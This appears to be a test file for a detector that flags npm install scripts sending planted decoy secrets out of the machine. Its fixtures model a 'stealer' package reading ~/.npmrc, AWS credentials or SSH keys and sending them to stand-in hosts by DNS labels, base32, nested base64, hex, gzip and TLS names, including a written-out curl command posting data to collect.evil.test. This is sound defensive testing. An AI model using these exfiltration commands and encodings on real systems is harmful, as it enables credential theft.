import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { exfiltrationRule } from '../../src/rules/exfiltration.js';
import { findCanaries, needlesFor } from '../../src/rules/canary-search.js';
import type { ObservedTraffic } from '../../src/session/types.js';
import { ChainBuilder, HOME } from './chain-builder.js';
import { run } from './helpers.js';

const TOKEN = 'npm_Q7vKx2mP9LwR4tZ8yBnC3dF6hJ1kS5aE0uGi';
const b64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');

function http(path: string, body = '', headers: Record<string, string> = {}): ObservedTraffic {
  return { protocol: 'http', http: { method: 'POST', host: 'collect.evil.test', path, headers: { host: 'collect.evil.test', ...headers }, body, bodyBytes: body.length, truncated: false } };
}

function stealer(): { b: ChainBuilder; s: ReturnType<ReturnType<ChainBuilder['pkg']>['script']> } {
  const b = new ChainBuilder();
  b.canary(TOKEN, `${HOME}/.npmrc`);
  const s = b.pkg('stealer').script('postinstall', 'node index.js', { wrapperExecs: ['node', 'index.js'] });
  return { b, s };
}

test('exfiltration: the decoy in DNS labels, split across labels, is proven (critical)', () => {
  const { b, s } = stealer();
  const read = s.file(s.root, 'read', `${HOME}/.npmrc`);
  const d = s.dns(s.root, `${TOKEN.slice(0, 20)}.${TOKEN.slice(20)}.x.exfil.test`);
  const findings = run(exfiltrationRule, b.build());
  assert.equal(findings.length, 1);
  assert.equal(findings[0]?.severity, 'critical');
  assert.deepEqual(findings[0]?.evidence, [read.id, d.id]);
  assert.equal(findings[0]?.message, 'sends the decoy npm token (from ~/.npmrc) to exfil.test in a DNS query');
});

test('exfiltration: base32 chunks over several DNS queries are joined in time order', () => {
  const { b, s } = stealer();
  const encoded = base32(TOKEN).toLowerCase();
  const queries = [0, 1, 2].map((i) => s.dns(s.root, `${encoded.slice(i * 24, (i + 1) * 24)}.${i}.exfil.test`));
  const [finding] = run(exfiltrationRule, b.build());
  assert.equal(finding?.severity, 'critical');
  assert.deepEqual(finding?.evidence, queries.map((q) => q.id));
});

test('exfiltration: base64 of base64 in an HTTP body', () => {
  const { b, s } = stealer();
  const n = s.connect(s.root, '192.0.2.10', 80, { result: 'ok', hostname: 'collect.evil.test', observed: http('/upload', `data=${b64(b64(`token=${TOKEN}`))}`) });
  const [finding] = run(exfiltrationRule, b.build());
  assert.equal(finding?.severity, 'critical');
  assert.deepEqual(finding?.evidence, [n.id]);
  assert.match(finding?.message ?? '', /to collect\.evil\.test \(192\.0\.2\.10:80\) in the HTTP body as base64 of base64$/);
});

test('exfiltration: hex in a URL query, url-safe base64 of JSON in a header, reversed in a payload, gzip', () => {
  const hex = Buffer.from(TOKEN).toString('hex').toUpperCase();
  const json = Buffer.from(JSON.stringify({ host: 'alex-thinkpad', npm: TOKEN })).toString('base64url');
  const cases: { observed?: ObservedTraffic; payload?: string; expect: RegExp }[] = [
    { observed: http(`/c?id=7&d=${hex}`), expect: /in the URL as hex$/ },
    { observed: http('/', '', { 'x-session': json }), expect: /in the x-session header as base64$/ },
    { observed: http(`/p?v=${encodeURIComponent(b64(`${TOKEN}?`))}`), expect: /in the URL as (url-encoded of )?base64$/ },
    { payload: `\x00\x01${[...TOKEN].reverse().join('')}\n`, expect: /in the data sent as reversed$/ },
    { observed: http('/z', gzipSync(Buffer.from(`k=${TOKEN}`)).toString('latin1')), expect: /in the HTTP body as gzip$/ },
    { observed: { protocol: 'raw', firstBytes: b64(`AUTH ${TOKEN}\r\n`) }, expect: /in the data sent$/ },
    { observed: { protocol: 'tls', sni: `${TOKEN.toLowerCase()}.evil.test` }, expect: /in the TLS server name$/ },
  ];
  for (const { observed, payload, expect } of cases) {
    const { b, s } = stealer();
    s.connect(s.root, '192.0.2.10', 443, { result: 'ok', ...(observed ? { observed } : {}), ...(payload ? { payload, syscall: 'sendto', protocol: 'udp' } : {}) });
    const findings = run(exfiltrationRule, b.build());
    assert.equal(findings.length, 1, String(expect));
    assert.equal(findings[0]?.severity, 'critical');
    assert.match(findings[0]?.message ?? '', expect);
  }
});

test('exfiltration: a partial PEM key (a window of it) still proves the leak', () => {
  const b = new ChainBuilder();
  const body = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZWQyNTUxOQAAACBjM0x';
  b.canary(`-----BEGIN OPENSSH PRIVATE KEY-----\n${body}\n-----END OPENSSH PRIVATE KEY-----\n`, `${HOME}/.ssh/id_ed25519`, 'ssh private key');
  const s = b.pkg('stealer').script('postinstall', 'node index.js');
  s.connect(s.root, '192.0.2.10', 80, { result: 'ok', observed: http('/k', body.slice(20, 70)) });
  assert.equal(run(exfiltrationRule, b.build())[0]?.severity, 'critical');
});

test('exfiltration: a secret read followed by egress is high, not proven, citing the read and the egress', () => {
  const b = new ChainBuilder();
  const s = b.pkg('sneaky').script('postinstall', 'node index.js', { wrapperExecs: ['node', 'index.js'] });
  const early = s.connect(s.root, '192.0.2.99', 443, { result: 'ok' });
  const read = s.file(s.root, 'read', `${HOME}/.aws/credentials`);
  const child = s.process(['curl', '-d', '@-', 'https://collect.evil.test/'], { parent: s.root });
  const lookup = s.dns(child, 'collect.evil.test', ['198.51.100.4']);
  const n = s.connect(child, '198.51.100.4', 443, { result: 'ok', hostname: 'collect.evil.test' });
  const findings = run(exfiltrationRule, b.build());
  assert.equal(findings.length, 1);
  assert.equal(findings[0]?.severity, 'high');
  assert.deepEqual(findings[0]?.evidence, [read.id, lookup.id, n.id]);
  assert.ok(!findings[0]?.evidence.includes(early.id), 'egress before the read is not part of it');
  assert.equal(
    findings[0]?.message,
    'sends data to collect.evil.test (198.51.100.4:443) after reading ~/.aws/credentials (AWS credentials): possible exfiltration, not proven (no decoy value seen in the traffic, and not all of it could be seen)',
  );
});

test('exfiltration: a proven leak is not reported again as composed', () => {
  const { b, s } = stealer();
  s.file(s.root, 'read', `${HOME}/.npmrc`);
  s.connect(s.root, '192.0.2.10', 80, { result: 'ok', observed: http(`/?t=${TOKEN}`) });
  assert.deepEqual(run(exfiltrationRule, b.build()).map((f) => f.severity), ['critical']);
});

test('exfiltration: look-alikes do not fire', () => {
  const { b, s } = stealer();
  // Egress without any secret read, and base64/hex noise that is not the decoy.
  s.connect(s.root, '192.0.2.10', 80, { result: 'ok', observed: http('/', b64(b64(TOKEN.replace('Q7', 'q8'))) + Buffer.from(TOKEN.slice(0, 10)).toString('hex')) });
  s.dns(s.root, `${TOKEN.slice(0, 10)}.example.test`);
  // A secret read with no egress after it; a failed read followed by egress.
  s.file(s.root, 'read', `${HOME}/.ssh/id_rsa`, { result: 'ENOENT' });
  s.connect(s.root, '192.0.2.10', 80, { result: 'ok' });
  s.file(s.root, 'read', `${HOME}/.git-credentials`);
  // Loopback is not leaving the machine.
  s.connect(s.root, '127.0.0.1', 9229, { result: 'ECONNREFUSED' });
  assert.deepEqual(run(exfiltrationRule, b.build()), []);
});

test("exfiltration: npm sending its own token to the registry is npm's job, not a leak", () => {
  const b = new ChainBuilder();
  b.canary(TOKEN, `${HOME}/.npmrc`);
  const s = b.pkg('installs-more').script('postinstall', 'npm install --no-save left-pad');
  const npm = s.process(['node', '/usr/local/bin/npm', 'install', '--no-save', 'left-pad'], { exe: '/usr/local/bin/node' });
  s.connect(npm, '192.0.2.30', 443, {
    result: 'ok',
    observed: { protocol: 'https', http: { method: 'GET', host: 'registry.npmjs.org', path: '/left-pad', headers: { authorization: `Bearer ${TOKEN}` }, body: '', bodyBytes: 0, truncated: false } },
  });
  assert.deepEqual(run(exfiltrationRule, b.build()).filter((f) => f.severity === 'critical'), []);
  // The same header sent elsewhere, or by the package's own code, is proof.
  const other = b.pkg('steals').script('postinstall', 'node x.js');
  other.connect(other.root, '192.0.2.31', 443, {
    result: 'ok',
    observed: { protocol: 'https', http: { method: 'GET', host: 'registry.npmjs.org', path: '/', headers: { authorization: `Bearer ${TOKEN}` }, body: '', bodyBytes: 0, truncated: false } },
  });
  assert.equal(run(exfiltrationRule, b.build(), other.pkg.info.location)[0]?.severity, 'critical');
});

test('canary search: short values are never needles; bounded work on a large hostile body', () => {
  assert.deepEqual(needlesFor([{ id: 'c1', value: 'hunter2', source: 'env:X', kind: 'password' }]), []);
  const needles = needlesFor([{ id: 'c1', value: TOKEN, source: 'env:NPM_TOKEN', kind: 'npm token' }]);
  const noise = 'QUFB'.repeat(16_000) + '%41'.repeat(2000) + 'ab'.repeat(8000);
  const started = Date.now();
  assert.deepEqual(findCanaries(noise, needles), []);
  assert.ok(Date.now() - started < 2000, `the search is bounded (${Date.now() - started} ms)`);
  assert.match(findCanaries(`x ${b64(b64(b64(TOKEN)))}`, needles)[0]?.encodings.join(' of ') ?? '', /^base64 of base64 of base64$/);
});

function base32(text: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = '';
  for (const byte of Buffer.from(text)) bits += byte.toString(2).padStart(8, '0');
  let out = '';
  for (let i = 0; i < bits.length; i += 5) out += alphabet[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
  return out;
}
